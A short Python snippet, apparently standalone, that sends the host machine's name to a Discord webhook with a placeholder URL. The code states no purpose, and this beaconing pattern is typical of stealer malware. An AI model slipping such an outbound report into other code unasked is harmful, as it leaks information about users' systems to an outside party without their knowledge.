import platform, requests

HOOK = "https://discord.com/api/webhooks/1111111111/abcdefg"
requests.post(HOOK, json={"content": platform.node()})
